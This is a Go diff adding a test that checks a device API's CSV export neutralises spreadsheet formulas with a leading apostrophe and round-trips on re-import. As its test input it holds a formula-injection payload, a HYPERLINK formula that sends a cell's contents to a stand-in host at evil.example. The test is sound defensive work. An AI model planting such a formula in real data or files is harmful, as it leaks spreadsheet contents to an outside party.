@@ -2,7 +2,9 @@ package api
 
 import (
 	"bytes"
+	"encoding/csv"
 	"net/http"
+	"slices"
 	"strings"
 	"testing"
 	"unicode/utf8"
@@ -125,4 +127,29 @@ func FuzzParseInventory(f *testing.F) {
 			}
 		}
 	})
+}
+
+// TestCSVExportNeutralisesFormulas (issue 13 finding 10): the device export
+// writes text cells a spreadsheet would run as formulas with a leading ',
+// keeps numbers as numbers, and imports back to the same values.
+func TestCSVExportNeutralisesFormulas(t *testing.T) {
+	f := newFixture(t)
+	hyperlink := `=HYPERLINK("http://evil.example/?d="&A1,"details")`
+	f.ok("admin", "PUT", "/api/v1/devices/x-1", map[string]any{"kind": "psa", "model": hyperlink, "facility": "@f-x", "region": "+east", "country": "-UG", "rated_flow_lpm": 12.5}, nil)
+	rec := f.do("viewer", "GET", "/api/v1/devices?format=csv&region=%2Beast", nil)
+	recs, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
+	if err != nil || len(recs) != 2 {
+		t.Fatalf("got %d %q (%v), want a header and one row", rec.Code, rec.Body, err)
+	}
+	want := []string{"x-1", "psa", "'" + hyperlink, "'@f-x", "'+east", "'-UG", "12.5", "0", "no_data", ""}
+	if !slices.Equal(recs[1], want) {
+		t.Errorf("exported row: got %q, want %q", recs[1], want)
+	}
+	var res ImportResult
+	f.ok("admin", "POST", "/api/v1/devices/import", rec.Body.String(), &res)
+	var d plant.Device
+	f.ok("admin", "GET", "/api/v1/devices/x-1", nil, &d)
+	if res.Updated != 1 || d.Model != hyperlink || d.Facility != "@f-x" || d.Region != "+east" || d.Country != "-UG" {
+		t.Errorf("re-import: got %+v and %+v, want the values as they were", res, d)
+	}
 }
